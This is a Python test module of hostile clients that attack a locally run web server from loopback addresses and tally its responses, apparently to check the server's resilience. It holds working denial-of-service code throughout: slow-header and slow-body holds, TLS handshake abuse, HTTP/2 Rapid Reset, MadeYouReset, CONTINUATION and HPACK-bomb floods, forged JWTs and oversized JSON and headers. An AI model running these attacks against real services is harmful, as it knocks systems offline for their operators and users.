"""Hostile clients. Each runs in a separate process, from the address of its index, and counts the results."""

import base64
import collections
import itertools
import json
import re
import secrets
import socket
import ssl
import time
from typing import Callable

import wire as w
from wire import Frame, Http2, Wire, frame, request

Counts = collections.Counter
HOLDERS, SIGNATURE = 450, "0" * 64
# Connections that stay open after an attack, until its process ends: nothing that they hold is freed by the attacker.
OPEN: list = []


def address(index: int) -> str:
    return f"127.0.0.{3 + index}"


def now() -> float:
    return time.monotonic()


# --- clients that keep connections open ------------------------------------------------------------------------------------------------


def outcome(held: Wire) -> str:
    if isinstance(held, Http2):
        for one in held.frames():
            if one.kind == w.GOAWAY and w.code(one) != "NO_ERROR":
                return f"GOAWAY {w.code(one)}"
            if one.kind == w.HEADERS:
                held.saw = held.status(one)
        saw = getattr(held, "saw", None)
        return f"{saw}, then {held.ended}" if saw and held.ended else saw or held.ended or "held"
    status = re.search(rb"HTTP/1\.1 (\d+)", held.received)
    return status[1].decode() if status else held.ended or "held"


def hold(connect: Callable[[], Wire], drip: bytes, count: int, end: float, pause=1.0, reading=True) -> Counts:
    """Keeps `count` connections open and sends each a `drip` every `pause`; a connection that ends is replaced."""
    counts, open_ = Counts(), []
    while now() < end:
        look = now() + pause
        for held in [held for held in open_ if held.ended]:
            counts[outcome(held)] += 1
            held.close()
            open_.remove(held)
        while len(open_) < count and now() < end:
            try:
                open_.append(connect())
                counts["tried"] += 1
            except OSError:
                counts["not connected"] += 1
                break
        for held in open_:
            if drip:
                held.write(drip)
            if reading:
                held.read()
        time.sleep(max(0, min(look, end) - now()))
    for held in open_:
        if reading:
            held.read()
        counts[outcome(held) if reading else "never read"] += 1
    OPEN.extend(open_)
    return counts


def opened(held: Wire, data: bytes, end: float, reading=True) -> Wire:
    held.send(data, min(end, now() + 2), reading)
    return held


def http1(path: str, *fields: str, method="POST", body=0) -> bytes:
    length = [f"Content-Length: {body}"] if method == "POST" else []
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", *length, *fields, "\r\n"]).encode()


def slow_heads(site, index, end):
    first = b"POST /webhook HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
    return hold(lambda: opened(Wire(site.port, address(index)), first, end), b"a", HOLDERS, end)


def slow_heads_http2(site, index, end):
    first = frame(w.HEADERS, 0, 1, request())
    drip = frame(w.CONTINUATION, 0, 1, w.fields(("x", "y")))
    return hold(lambda: opened(Http2(site.port, address(index)), first, end), drip, HOLDERS, end)


def slow_bodies(site, index, end):
    first = http1("/signed", f"X-Signature: {SIGNATURE}", body=100_000)
    return hold(lambda: opened(Wire(site.port, address(index)), first, end), b"a", HOLDERS, end)


def large_bodies(site, index, end):
    """Sends nine tenths of the largest body, and then nothing."""
    first = http1("/signed", f"X-Signature: {SIGNATURE}", body=1 << 20) + b"x" * 943_000
    return hold(lambda: opened(Wire(site.port, address(index)), first, end), b"", 40, end, pause=0.2)


def unread_responses(site, index, end):
    first = http1("/public/large", method="GET")
    connect = lambda: opened(Wire(site.port, address(index), receive_buffer=4096), first, end, reading=False)
    return hold(connect, b"", 25, end, reading=False)


def unread_responses_http2(site, index, end):
    """A hundred streams on each connection, each with a window of 0. The responses fit into the kernel's buffers."""
    first = b"".join(frame(w.HEADERS, 5, stream, request("/public/medium", "GET")) for stream in range(1, 200, 2))
    return hold(lambda: opened(Http2(site.port, address(index), w.setting(4, 0)), first, end), b"", 5, end)


def stalled_streams(site, index, end):
    """A hundred streams on each connection, each with the beginning of a body."""
    head = request("/signed", "POST", ("x-signature", SIGNATURE))
    first = b"".join(frame(w.HEADERS, 4, stream, head) + frame(w.DATA, 0, stream, b"x" * 500) for stream in range(1, 200, 2))
    return hold(lambda: opened(Http2(site.port, address(index)), first, end), b"", 50, end)


def refused_streams(site, index, end):
    """A hundred streams on each connection that are rejected at once, while their bodies never arrive."""
    head = request("/webhook", "POST")
    first = b"".join(frame(w.HEADERS, 4, stream, head) for stream in range(1, 200, 2))
    return hold(lambda: opened(Http2(site.port, address(index)), first, end), b"", 50, end)


def stalled_streams_with_large_heads(site, index, end):
    """Like `stalled_streams`, with headers of the largest allowed size."""
    head = request("/signed", "POST", ("x-signature", SIGNATURE), ("x", "a" * 15_000), ("y", "b" * 15_000))
    def stream(number):
        return frame(w.HEADERS, 0, number, head[:16_000]) + frame(w.CONTINUATION, 4, number, head[16_000:])
    first = b"".join(stream(number) for number in range(1, 200, 2))
    return hold(lambda: opened(Http2(site.port, address(index)), first, end), b"", 50, end)


# --- connections ------------------------------------------------------------------------------------------------------


def silent_connections(site, index, end, source):
    """Opens as many connections as one process can hold, and then sends nothing."""
    counts, open_ = Counts(), []
    while now() < end - 1 and len(open_) < 1500:
        try:
            plain = w.tcp(site.port, source, timeout=1)
            plain.setblocking(False)
            open_.append(plain)
            counts["tried"] += 1
        except OSError:
            counts["not connected"] += 1
    time.sleep(max(0, end - now()))
    for plain in open_:
        try:
            counts["closed" if plain.recv(1) == b"" else "answered"] += 1
        except BlockingIOError:
            counts["held"] += 1
        except OSError:
            counts["reset"] += 1
    OPEN.extend(open_)
    return counts


def client_hello() -> bytes:
    outgoing = ssl.MemoryBIO()
    try:
        w.CONTEXTS["h2"].wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def half_handshakes(site, index, end):
    """Sends a ClientHello and never continues after the server's part of the TLS handshake."""
    hello, counts, open_ = client_hello(), Counts(), collections.deque()
    while now() < end:
        if len(open_) >= HOLDERS:
            plain = open_.popleft()
            plain.setblocking(True)
            plain.settimeout(max(0.01, end - now()))
            try:
                while plain.recv(65536):
                    pass
                counts["closed"] += 1
            except TimeoutError:
                counts["held"] += 1
            except OSError:
                counts["reset"] += 1
            plain.close()
            continue
        plain = w.tcp(site.port, address(index))
        plain.sendall(hello)
        open_.append(plain)
        counts["tried"] += 1
    counts["held"] += len(open_)
    OPEN.extend(open_)
    return counts


def abandoned_handshakes(site, index, end):
    """Repeats as fast as possible: a ClientHello, one read of the response, a reset."""
    hello, counts = client_hello(), Counts()
    while now() < end:
        try:
            with w.tcp(site.port, address(index)) as plain:
                plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
                plain.sendall(hello)
                counts["tried"] += 1
                counts["ServerHello" if plain.recv(16) else "closed"] += 1
        except OSError:
            counts["not connected"] += 1
    return counts


# --- frames -----------------------------------------------------------------------------------------------------------


def tally(counts: Counts, held: Http2, frames: list[Frame]) -> None:
    for one in frames:
        if one.kind == w.GOAWAY and w.code(one) != "NO_ERROR":
            counts[f"GOAWAY {w.code(one)}"] += 1
        elif one.kind == w.RST_STREAM:
            counts[f"RST_STREAM {w.code(one)}"] += 1
        elif one.kind == w.HEADERS:
            counts[held.status(one)] += 1
        elif one.kind == w.PING and one.flags & w.ACK:
            counts["PING answered"] += 1
        elif one.kind == w.SETTINGS and one.flags & w.ACK:
            counts["SETTINGS answered"] += 1


def flood(site, index, end, chunks, settings=b"") -> Counts:
    """Sends `chunks` of (units, bytes) on one connection after the other. Every second process reads no responses."""
    counts, reading = Counts(), index % 2 == 0
    while now() < end:
        try:
            held = Http2(site.port, address(index), settings)
        except OSError:
            counts["not connected"] += 1
            continue
        counts["connections"] += 1
        for units, chunk in chunks():
            whole = held.send(chunk, end, reading)
            tally(counts, held, held.frames() if reading else [])
            if not whole:
                break
            counts["tried"] += units
        held.wait_for(lambda: held.ended, min(end, now() + 0.2))
        tally(counts, held, held.frames())
        if held.ended:
            counts["connections ended"] += 1
        held.close()
    return counts


def streams_of(one: Callable[[int], bytes], number=200):
    """Chunks of `number` streams each, until the stream identifiers are used up."""
    ids = range(1, 1 << 24, 2)
    return lambda: ((number, b"".join(one(stream) for stream in ids[at:at + number])) for at in range(0, len(ids), number))


def rapid_reset(site, index, end):
    head, cancel = request("/public/small", "GET"), (8).to_bytes(4, "big")
    return flood(site, index, end, streams_of(lambda s: frame(w.HEADERS, 5, s, head) + frame(w.RST_STREAM, 0, s, cancel)))


def made_you_reset(site, index, end):
    """Makes the server reset each stream itself, by a window increment of zero (CVE-2025-8671)."""
    head = request("/public/small", "GET")
    return flood(site, index, end, streams_of(lambda s: frame(w.HEADERS, 5, s, head) + frame(w.WINDOW_UPDATE, 0, s, bytes(4))))


def same(opening: bytes, one: bytes, number=5000):
    chunk = one * number
    return lambda: itertools.chain([(0, opening)] if opening else [], itertools.repeat((number, chunk)))


def continuations(site, index, end):
    opening = frame(w.HEADERS, 0, 1, request())
    one = frame(w.CONTINUATION, 0, 1, w.fields(("x", "y")) if index < 2 else w.fields(("x", "y" * 16_000)))
    return flood(site, index, end, same(opening, one, 5000 if index < 2 else 50))


def settings(site, index, end):
    return flood(site, index, end, same(b"", frame(w.SETTINGS, 0, 0, w.setting(4, 65535))))


def pings(site, index, end):
    return flood(site, index, end, same(b"", frame(w.PING, 0, 0, bytes(8))))


def empty_data(site, index, end):
    opening = frame(w.HEADERS, 4, 1, request("/signed", "POST", ("x-signature", SIGNATURE)))
    return flood(site, index, end, same(opening, frame(w.DATA, 0, 1)))


def priorities(site, index, end):
    return flood(site, index, end, same(b"", frame(w.PRIORITY, 0, 3, bytes([0, 0, 0, 1, 15]))))


def unknown_frames(site, index, end):
    return flood(site, index, end, same(b"", frame(0x77, 0, 0, b"unknown")))


def window_updates(site, index, end):
    """Endless increments of 1, and on half of the connections a window beyond its maximum (RFC 9113 §6.9.1)."""
    def chunks():
        if secrets.randbelow(2):
            return iter([(2, frame(w.WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2)])
        return itertools.repeat((5000, frame(w.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 5000), 20)
    return flood(site, index, end, chunks)


def hpack_bomb(site, index, end):
    """One header of 4000 bytes in the table, then ten thousand references to it in each request: 40 MB of headers."""
    first = request() + b"\x40" + w.text("bomb") + w.text("x" * 4000) + b"\xbe" * 10_000
    rest = request() + b"\xbe" * 10_000
    return flood(site, index, end, streams_of(lambda s: frame(w.HEADERS, 5, s, first if s == 1 else rest), 20))


# --- requests ---------------------------------------------------------------------------------------------------------


def batches(site, index, end, requests: list[bytes]) -> Counts:
    """Sends all `requests` without waiting in between, on one connection after the other, and counts the responses."""
    counts, held = Counts(), None
    blob = b"".join(requests)
    while now() < end:
        try:
            held = held if held and not held.ended else Wire(site.port, address(index))
        except OSError:
            counts["not connected"] += 1
            continue
        held.send(blob, end)
        held.wait_for(lambda: held.received.count(b"HTTP/1.1 ") >= len(requests), end)
        found = re.findall(rb"HTTP/1\.1 (\d+)", held.received)
        counts.update(status.decode() for status in found)
        counts["tried"] += max(1, len(found))
        if held.ended and not found:
            counts[held.ended] += 1
        held.received.clear()
        if held.ended:
            held.close()
    return counts


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def bearer(token: str, path="/webhook") -> bytes:
    return http1(path, f"Authorization: Bearer {token}")


def forged(site, number: int, kid="one") -> str:
    payload = site.tokens[number % len(site.tokens)].split(".")[1]
    return f"{b64(json.dumps({'alg': 'ES256', 'kid': kid}).encode())}.{payload}.{b64(secrets.token_bytes(64))}"


def forged_signatures(site, index, end):
    return batches(site, index, end, [bearer(forged(site, number)) for number in range(200)])


def wrong_kids(site, index, end):
    return batches(site, index, end, [bearer(forged(site, number, secrets.token_hex(8))) for number in range(200)])


def garbage(site, index, end):
    return batches(site, index, end, [bearer(b64(secrets.token_bytes(600))) for _ in range(200)])


def unknown_kids(site, index, end):
    return batches(site, index, end, [bearer(forged(site, number, secrets.token_hex(8)), "/remote") for number in range(200)])


def deep_tokens(site, index, end):
    nested = b64(b'{"alg":' + b"[" * 2500)
    return batches(site, index, end, [bearer(f"{nested}.{nested}.AAAA")] * 100)


def largest_tokens(site, index, end):
    """Tokens of the largest allowed length, well-formed except for the forged signature."""
    header, payload = (b64(json.dumps(part).encode()) for part in ({"alg": "ES256", "kid": "one"}, {"iss": "x" * 5900}))
    tokens = [f"{header}.{payload}.{b64(secrets.token_bytes(64))}" for _ in range(100)]
    return batches(site, index, end, [bearer(token) for token in tokens])


def json_bodies(site, index, end):
    """Bodies of 1 MiB: nested as deeply as possible, or with as many members as fit."""
    members = b"{" + b",".join(b'"%05d":0' % number for number in range(104_000)) + b"}"
    return batches(site, index, end, [http1("/json", body=len(body)) + body for body in (b"[" * (1 << 20), b'{"a":' * 209_000, members)])


def huge_heads(site, index, end):
    heads = itertools.cycle([
        bearer("a" * 9000), bearer("a" * 30_000), bearer("a" * 65_536), http1("/webhook", f"X: {'a' * (1 << 20)}"),
        http1("/" + "a" * 16_384), http1("/webhook", *[f"X-{n}: 1" for n in range(150)]),
        http1("/webhook", *[f"X-{n}: 1" for n in range(5000)]), http1("/webhook", *["Cookie: a=b"] * 20_000),
    ])
    counts = Counts()
    while now() < end:
        counts += batches(site, index, min(end, now() + 0.05), [next(heads)])
    return counts


def unknown_paths(site, index, end):
    return batches(site, index, end, [http1(f"/{secrets.token_hex(8)}", method="GET") for _ in range(500)])


def unread_pipelines(site, index, end):
    """Endless requests whose responses are never read."""
    blob = bearer("x.y.z") * 20_000
    connect = lambda: opened(Wire(site.port, address(index)), blob, end, reading=False)
    return hold(connect, b"", 10, end, reading=False)
